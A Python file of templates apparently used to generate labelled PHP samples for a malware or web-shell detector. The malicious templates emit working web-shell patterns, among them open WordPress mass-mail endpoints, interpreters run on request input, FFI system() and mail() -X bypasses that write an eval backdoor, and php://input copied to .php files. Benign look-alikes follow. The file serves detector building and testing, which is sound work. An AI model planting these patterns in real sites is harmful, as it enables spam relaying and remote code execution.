"""Invented variants of the PHP mail, interpreter and write sinks (session 12,
branch mail3), for gen_variants.py.

Written from technique descriptions only (the blind held-out set 2 names
them; its files were not opened): wp_mail() behind a wp_ajax_nopriv_ hook
over a posted list, a sendmail pipe written in a loop, an interpreter fed a
program on its standard input or after -c/-e, FFI's system(), error_log()
type 3 and copy('php://input') as file writes, mail()'s -X, parse_str() into
an array then a call through it. And the look-alikes of real applications:
an order mail to the customer, a newsletter behind a capability and a nonce,
a fixed sendmail notification, a job runner with an argument array, FFI with
fixed C declarations, error_log() to a fixed log, an upload chunk from
php://input to a hashed name, a query string parsed to read a page number.

Each template takes (g, php_file) and returns the file's text; the text is
scanned, never run.
"""


def _list_expr(g):
    """A list of recipients from the request (or a file it uploaded)."""
    r = g.rng
    kind = r.choice(["explode", "preg_split", "array", "json", "upload"])
    g.transforms.add("rcpt:" + kind)
    if kind == "explode":
        return "%s(%s, %s)" % (g.fn("explode"), g.lit(r.choice(["\n", ",", ";"])), g.src("POST"))
    if kind == "preg_split":
        return "%s('/[\\s,;]+/', %s, -1, PREG_SPLIT_NO_EMPTY)" % (g.fn("preg_split"), g.src("POST"))
    if kind == "array":
        return "(array) %s" % g.src(r.choice(["POST", "REQUEST"]))
    if kind == "json":
        return "%s(%s(%s), true)" % (g.fn("json_decode"), g.fn("stripslashes"), g.src("POST"))
    return "%s($_FILES[%s]['tmp_name'], FILE_IGNORE_NEW_LINES)" % (g.fn("file"), g.lit(g.key()))


def t_wp_ajax_mailer(g, php_file):
    r = g.rng
    act = r.choice(["qn_send", "bulk_go", "nl_push", "x_mail", "notify_all"])
    lst, to, n = g.var(), g.var(), g.var()
    subj, body, frm = g.src("POST"), g.src("POST"), g.src("POST")
    hdr = r.choice(["array('Content-Type: text/html; charset=UTF-8', 'From: ' . %s)" % frm,
                    "'Content-Type: text/html'", "''"])
    send = r.choice(["wp_mail", "wp_mail", "mail"])
    style = r.choice(["foreach", "for", "list_arg", "bcc"])
    g.transforms.add("send:" + style)
    if style == "foreach":
        core = ("%s = %s;\n%s = 0;\nforeach (%s as %s) {\n    %s = %s(%s);\n"
                "    if (%s(%s, %s, %s, %s)) %s++;\n}\n"
                % (lst, _list_expr(g), n, lst, to, to, g.fn("trim"), to, g.fn(send), to, subj, body,
                   hdr, n))
    elif style == "for":
        i = g.var()
        core = ("%s = %s;\nfor (%s = 0; %s < %s(%s); %s++) {\n    %s(%s[%s], %s, %s, %s);\n"
                "    %s(%d);\n}\n%s = %s;\n"
                % (lst, _list_expr(g), i, i, g.fn("count"), lst, i, g.fn(send), lst, i, subj, body,
                   hdr, g.fn("usleep"), r.choice([0, 50000, 200000]), n, i))
    elif style == "list_arg":  # wp_mail takes an array of recipients
        core = ("%s = %s(%s(',', %s));\n%s(%s, %s, %s, %s);\n%s = %s(%s);\n"
                % (lst, g.fn("array_filter"), g.fn("explode"), g.src("POST"), g.fn("wp_mail"), lst,
                   subj, body, hdr, n, g.fn("count"), lst))
    else:  # one message, the list in its Bcc
        core = ("%s = array('Bcc: ' . %s, 'Content-Type: text/html');\n%s(%s, %s, %s, %s);\n%s = 1;\n"
                % (lst, g.src("POST"), g.fn("wp_mail"), g.lit("noreply@example.org"), subj, body,
                   lst, n))
    reply = r.choice(["wp_send_json(array('sent' => %s));" % n, "echo %s;\nwp_die();" % n,
                      "die(json_encode(array('ok' => %s)));" % n])
    body_fn = core + reply
    hook = r.choice(["function", "closure", "method"])
    g.transforms.add("hook:" + hook)
    if hook == "function":
        f = g.fname()
        code = ("add_action('wp_ajax_nopriv_%s', '%s');\nadd_action('wp_ajax_%s', '%s');\n"
                "function %s()\n{\n%s\n}\n" % (act, f, act, f, f, _indent(body_fn)))
    elif hook == "closure":
        code = "add_action('wp_ajax_nopriv_%s', function () {\n%s\n});\n" % (act, _indent(body_fn))
    else:
        cls = r.choice(["Bulk_Notice", "QN_Ajax", "Mailer_Bridge"])
        code = ("class %s\n{\n    public function __construct()\n    {\n"
                "        add_action('wp_ajax_nopriv_%s', array($this, 'go'));\n    }\n\n"
                "    public function go()\n    {\n%s\n    }\n}\nnew %s();\n"
                % (cls, act, _indent(body_fn, 8), cls))
    head = "/*\nPlugin Name: %s\nVersion: 1.%d\n*/\n" % (
        r.choice(["Quick Notify", "Site Mailer", "Ajax Tools"]), r.randint(0, 9))
    return php_file(g, head + code)


def _indent(s, n=4):
    return "\n".join((" " * n + line) if line else line for line in s.rstrip("\n").split("\n"))


def t_sendmail_pipe(g, php_file):
    r = g.rng
    prog = r.choice(["/usr/sbin/sendmail -t", "/usr/sbin/sendmail -t -i", "/usr/lib/sendmail -oi -t",
                     "/usr/sbin/sendmail -oi -f bounce@example.net -t", "sendmail -i -t",
                     "/usr/sbin/exim -t"])
    g.transforms.add("prog:" + prog.split()[0].rsplit("/", 1)[-1])
    lst, to, p = g.var(), g.var(), g.var()
    kind = r.choice(["upload", "textarea", "file_next"])
    g.transforms.add("list:" + kind)
    if kind == "upload":
        src = "%s($_FILES[%s]['tmp_name'])" % (g.fn("file"), g.lit(g.key()))
    elif kind == "textarea":
        src = "%s(\"\\n\", %s)" % (g.fn("explode"), g.src("POST"))
    else:
        src = "%s(__DIR__ . %s)" % (g.fn("file"), g.lit("/" + r.choice(["list.txt", "m.txt", "l"])))
    w = g.fn(r.choice(["fwrite", "fputs"]))
    frm, subj, msg = g.src("POST"), g.src("POST"), g.src("POST")
    opener = r.choice(["popen", "popen", "proc_open"])
    g.transforms.add("open:" + opener)
    if opener == "popen":
        open_s = "%s = %s(%s, 'w');" % (p, g.fn("popen"), g.enc(prog, allow=["plain", "concat"]))
        close_s = "%s(%s);" % (g.fn("pclose"), p)
        h = p
    else:
        pipes = g.var()
        open_s = ("%s = %s(%s, array(0 => array('pipe', 'r'), 1 => array('pipe', 'w')), %s);"
                  % (p, g.fn("proc_open"), g.lit(prog), pipes))
        close_s = "%s(%s[0]);\n    %s(%s);" % (g.fn("fclose"), pipes, g.fn("proc_close"), p)
        h = pipes + "[0]"
    if r.random() < 0.5:
        body = ("%s = %s;\nforeach (%s as %s) {\n    %s\n    %s(%s, \"To: \" . %s(%s) . \"\\n\");\n"
                "    %s(%s, \"From: \" . %s . \"\\nSubject: \" . %s . \"\\n\");\n"
                "    %s(%s, \"Content-Type: text/html\\n\\n\" . %s);\n    %s\n}\necho 'ok';"
                % (lst, src, lst, to, open_s, w, h, g.fn("trim"), to, w, h, frm, subj, w, h, msg,
                   close_s))
    else:
        m = g.var()
        body = ("%s = %s;\nfor ($i = 0; $i < %s(%s); $i++) {\n    %s = \"To: \" . %s[$i] . \"\\nFrom: \" . %s"
                " . \"\\nSubject: \" . %s . \"\\n\\n\" . %s;\n    %s\n    %s(%s, %s);\n    %s\n}"
                % (lst, src, g.fn("count"), lst, m, lst, frm, subj, msg, open_s, w, h, m,
                   close_s))
    return php_file(g, body)


def t_interp_wrapper(g, php_file):
    r = g.rng
    style = r.choice(["proc_stdin", "popen_stdin", "argv_stdin", "c_flag", "e_flag", "r_flag"])
    g.transforms.add("interp:" + style)
    src = g.src()
    code = src
    if r.random() < 0.5:
        code = "%s(%s)" % (g.fn("base64_decode"), src)
        g.transforms.add("decode-input")
    out = g.var()
    if style in ("proc_stdin", "argv_stdin"):
        p, pipes = g.var(), g.var()
        cmd = (g.lit(r.choice(["python3 -", "python -", "perl", "perl -", "ruby", "php -q", "node"]))
               if style == "proc_stdin" else
               "array(%s, '-')" % g.lit(r.choice(["python3", "perl", "/usr/bin/python3", "ruby"])))
        body = ("%s = %s(%s, array(0 => array('pipe', 'r'), 1 => array('pipe', 'w'), "
                "2 => array('pipe', 'w')), %s);\n%s(%s[0], %s);\n%s(%s[0]);\n"
                "%s = %s(%s[1]);\n%s(%s);\n%s"
                % (p, g.fn("proc_open"), cmd, pipes, g.fn("fwrite"), pipes, code, g.fn("fclose"),
                   pipes, out, g.fn("stream_get_contents"), pipes, g.fn("proc_close"), p,
                   "echo %s;" % out))
    elif style == "popen_stdin":
        h = g.var()
        body = ("%s = %s(%s, 'w');\n%s(%s, %s);\n%s(%s);"
                % (h, g.fn("popen"), g.lit(r.choice(["perl", "/usr/bin/perl", "python3", "ruby -"])),
                   g.fn(r.choice(["fwrite", "fputs"])), h, code, g.fn("pclose"), h))
    else:
        prog = {"c_flag": r.choice(["python3 -c ", "python -c ", "/usr/bin/python3 -c "]),
                "e_flag": r.choice(["perl -e ", "ruby -e ", "node -e ", "/usr/bin/perl -e "]),
                "r_flag": r.choice(["php -r ", "/usr/bin/php -r "])}[style]
        sink = g.fn(r.choice(["system", "passthru", "shell_exec", "exec"]))
        if r.random() < 0.6:
            arg = "%s . %s(%s)" % (g.lit(prog), g.fn("escapeshellarg"), code)
        else:
            arg = "%s . %s . \"'\"" % (g.lit(prog + "'"), code)
        body = "%s = %s(%s);\necho %s;" % (out, sink, arg, out)
    return php_file(g, body)


def t_disable_functions_bypass(g, php_file):
    r = g.rng
    style = r.choice(["ffi", "ffi_chain", "error_log_code", "error_log_path", "mail_x", "mail_arg"])
    g.transforms.add("bypass:" + style)
    src = g.src()
    if style in ("ffi", "ffi_chain"):
        decl = r.choice(["int system(const char *command);", "int system(const char *);",
                         "int system(char *cmd);"])
        lib = r.choice(["", ", 'libc.so.6'", ", \"libc.so.6\""])
        cmd = "%s . ' > /tmp/.o 2>&1'" % src if r.random() < 0.5 else src
        if style == "ffi":
            f = g.var()
            body = ("%s = FFI::cdef(%s%s);\n%s->system(%s);\necho @%s('/tmp/.o');"
                    % (f, g.lit(decl), lib, f, cmd, g.fn("file_get_contents")))
        else:
            body = "\\FFI::cdef(%s%s)->system(%s);" % (g.lit(decl), lib, cmd)
    elif style == "error_log_code":
        path = r.choice(["__DIR__ . '/cache.php'", "'wp-content/uploads/x.php'", "'.config.php'"])
        body = "%s(%s . %s, 3, %s);\necho 'ok';" % (g.fn("error_log"), g.lit("<?php "), src, path)
    elif style == "error_log_path":
        body = "%s(%s, 3, %s);" % (g.fn("error_log"), src, g.src())
    elif style == "mail_x":
        fn = g.fn(r.choice(["mail", "mb_send_mail"]))
        body = ("%s('nobody@example.org', 'x', %s, '', %s);"
                % (fn, g.lit("<?php @eval($_POST['x']); ?>"),
                   g.lit("-OQueueDirectory=/tmp -X " + r.choice(["/var/www/html/x.php",
                                                                   "./cache.php"]))))
    else:
        fn = g.fn(r.choice(["mail", "mb_send_mail"]))
        body = "%s('nobody@example.org', 'x', 'y', '', %s);" % (fn, src)
    return php_file(g, body)


def t_input_file_copy(g, php_file):
    r = g.rng
    dst = r.choice([g.src(), "__DIR__ . '/' . %s" % g.src(), "%s . '.php'" % g.src()])
    body = "%s%s(%s, %s);\necho 'ok';" % (g.at(), g.fn("copy"),
                                           g.enc("php://input", allow=["plain", "concat"]), dst)
    return php_file(g, body)


def t_parse_str_call(g, php_file):
    r = g.rng
    o = g.var()
    k1, k2 = r.sample(["m", "f", "a", "v", "x", "c", "fn", "arg"], 2)
    src = r.choice(["%s(%s)" % (g.fn("base64_decode"), g.src("COOKIE")),
                    "%s(%s)" % (g.fn("base64_decode"), g.src()), "$_SERVER['QUERY_STRING']",
                    "%s(%s)" % (g.fn("str_rot13"), g.src()), g.src()])
    call = r.choice(["%s[%s](%s[%s]);" % (o, g.lit(k1), o, g.lit(k2)),
                     "%s(%s[%s], %s[%s]);" % (g.fn("call_user_func"), o, g.lit(k1), o, g.lit(k2)),
                     "$f = %s[%s];\n$f(%s[%s]);" % (o, g.lit(k1), o, g.lit(k2))])
    body = "%s(%s, %s);\n%s" % (g.fn("parse_str"), src, o, call)
    return php_file(g, body)


# ---------------------------------------------------------------- benign


def b_order_mail(g, php_file):
    r = g.rng
    body = ("add_action('woocommerce_order_status_completed', 'acme_order_done');\n"
            "function acme_order_done($order_id)\n{\n    $order = wc_get_order($order_id);\n"
            "    $to = $order->get_billing_email();\n"
            "    $subject = sprintf(__('Your order #%%s', 'acme'), $order->get_order_number());\n"
            "    $body = acme_render('order-complete', array('order' => $order));\n"
            "    %s($to, $subject, $body, array('Content-Type: text/html; charset=UTF-8'));\n}\n"
            "function acme_render($tpl, $vars)\n{\n    ob_start();\n    extract($vars);\n"
            "    include __DIR__ . '/templates/' . basename($tpl) . '.php';\n    return ob_get_clean();\n}\n"
            % r.choice(["wp_mail", "wp_mail", "mail"]))
    return php_file(g, body)


def b_newsletter_queue(g, php_file):
    r = g.rng
    body = ("add_action('wp_ajax_acme_nl_send', function () {\n"
            "    check_ajax_referer('acme_nl', 'nonce');\n"
            "    if (!current_user_can('manage_options')) {\n        wp_send_json_error('forbidden', 403);\n    }\n"
            "    global $wpdb;\n    $subject = sanitize_text_field(wp_unslash($_POST['subject']));\n"
            "    $html = wp_kses_post(wp_unslash($_POST['html']));\n"
            "    $rows = $wpdb->get_results(\"SELECT email FROM {$wpdb->prefix}acme_subscribers WHERE status = 'confirmed' LIMIT %d\");\n"
            "    foreach ($rows as $row) {\n        wp_mail($row->email, $subject, $html, array('Content-Type: text/html'));\n    }\n"
            "    wp_send_json_success(count($rows));\n});\n" % r.choice([200, 500, 1000]))
    return php_file(g, body)


def b_contact_copy(g, php_file):
    body = ("add_action('wp_ajax_nopriv_acme_contact', 'acme_contact');\n"
            "function acme_contact()\n{\n    check_ajax_referer('acme_contact');\n"
            "    $email = sanitize_email($_POST['email']);\n"
            "    $msg = sanitize_textarea_field($_POST['message']);\n"
            "    $headers = array('Reply-To: ' . $email, 'Cc: ' . $email);\n"
            "    wp_mail(get_option('admin_email'), 'Contact form', $msg, $headers);\n"
            "    wp_mail(array($email), 'We received your message', 'Thanks: ' . $msg);\n"
            "    wp_send_json_success();\n}\n")
    return php_file(g, body)


def b_sendmail_notice(g, php_file):
    r = g.rng
    body = ("function acme_notify_admin($event)\n{\n"
            "    $p = popen('/usr/sbin/sendmail -t -i', 'w');\n    if (!$p) {\n        return false;\n    }\n"
            "    fwrite($p, \"To: %s\\n\");\n    fwrite($p, \"From: site@example.org\\n\");\n"
            "    fwrite($p, \"Subject: [site] \" . $event . \"\\n\\n\");\n"
            "    fwrite($p, \"Form message:\\n\" . strip_tags($_POST['message']) . \"\\n\");\n"
            "    return pclose($p) === 0;\n}\nif (!empty($_POST['message'])) {\n"
            "    acme_notify_admin('contact');\n}\n" % r.choice(["admin@example.org", "ops@example.net"]))
    return php_file(g, body)


def b_job_runner(g, php_file):
    r = g.rng
    body = ("function acme_run_job($id)\n{\n    $id = (int) $id;\n"
            "    $cmd = array(%s, __DIR__ . '/jobs/%s', '--job', (string) $id);\n"
            "    $spec = array(0 => array('pipe', 'r'), 1 => array('pipe', 'w'), 2 => array('pipe', 'w'));\n"
            "    $proc = proc_open($cmd, $spec, $pipes);\n"
            "    fwrite($pipes[0], json_encode(array('id' => $id, 'user' => $_POST['user'] ?? '')));\n"
            "    fclose($pipes[0]);\n    $out = stream_get_contents($pipes[1]);\n"
            "    proc_close($proc);\n    return $out;\n}\necho acme_run_job($_GET['job'] ?? 0);\n"
            % (r.choice(["'python3'", "'/usr/bin/python3'", "PHP_BINARY"]),
               r.choice(["export.py", "resize.py", "worker.php"])))
    return php_file(g, body)


def b_ffi_library(g, php_file):
    r = g.rng
    body = ("final class Crc\n{\n    private static $ffi;\n\n    public static function sum(string $data): int\n"
            "    {\n        if (self::$ffi === null) {\n"
            "            self::$ffi = FFI::cdef('unsigned long crc32(unsigned long crc, const unsigned char *buf, unsigned int len);', %s);\n"
            "        }\n        return self::$ffi->crc32(0, $data, strlen($data));\n    }\n}\n"
            "echo Crc::sum($_POST['blob'] ?? '');\n" % r.choice(["'libz.so.1'", "'libz.so'"]))
    return php_file(g, body)


def b_error_log_file(g, php_file):
    r = g.rng
    body = ("function acme_log($msg)\n{\n    $line = '[' . date('c') . '] ' . $msg . ' ' . $_SERVER['REQUEST_URI'] . \"\\n\";\n"
            "    error_log($line, 3, %s);\n}\nacme_log('login failed for ' . ($_POST['log'] ?? '-'));\n"
            "error_log('acme: cache miss ' . $_GET['key']);\n"
            % r.choice(["WP_CONTENT_DIR . '/acme-debug.log'", "__DIR__ . '/logs/app.log'",
                        "'/var/log/acme/app.log'"]))
    return php_file(g, body)


def b_upload_chunk(g, php_file):
    body = ("$dir = sys_get_temp_dir() . '/acme-uploads';\nif (!is_dir($dir)) {\n    mkdir($dir, 0700);\n}\n"
            "$name = hash('sha256', session_id() . (int) ($_GET['chunk'] ?? 0)) . '.part';\n"
            "copy('php://input', $dir . '/' . $name);\necho json_encode(array('ok' => true));\n")
    return php_file(g, body)


def b_query_parse(g, php_file):
    body = ("parse_str($_SERVER['QUERY_STRING'] ?? '', $q);\n$page = isset($q['page']) ? (int) $q['page'] : 1;\n"
            "$sort = in_array($q['sort'] ?? '', array('date', 'title'), true) ? $q['sort'] : 'date';\n"
            "$cb = 'acme_sort_' . $sort;\nif (function_exists($cb)) {\n    usort($items, $cb);\n}\n"
            "echo '<a href=\"?page=' . ($page + 1) . '\">next</a>';\n")
    return php_file(g, body)


def sink_templates(php_file):
    """The (name, fn, class, lang, expect) rows, each fn bound to php_file."""
    def bind(fn):
        return lambda g: fn(g, php_file)
    return [
        ("wp_ajax_mailer", bind(t_wp_ajax_mailer), "malicious", "php", "high"),
        ("sendmail_pipe", bind(t_sendmail_pipe), "malicious", "php", "high"),
        ("interp_stdin", bind(t_interp_wrapper), "malicious", "php", "high"),
        ("df_bypass", bind(t_disable_functions_bypass), "malicious", "php", "high"),
        ("input_copy", bind(t_input_file_copy), "malicious", "php", "high"),
        ("parse_str_call", bind(t_parse_str_call), "malicious", "php", "high"),
        ("order_mail", bind(b_order_mail), "benign", "php", "none"),
        ("newsletter_queue", bind(b_newsletter_queue), "benign", "php", "none"),
        ("contact_copy", bind(b_contact_copy), "benign", "php", "none"),
        ("sendmail_notice", bind(b_sendmail_notice), "benign", "php", "none"),
        ("job_runner", bind(b_job_runner), "benign", "php", "none"),
        ("ffi_library", bind(b_ffi_library), "benign", "php", "none"),
        ("error_log_file", bind(b_error_log_file), "benign", "php", "none"),
        ("upload_chunk", bind(b_upload_chunk), "benign", "php", "none"),
        ("query_parse", bind(b_query_parse), "benign", "php", "none"),
    ]
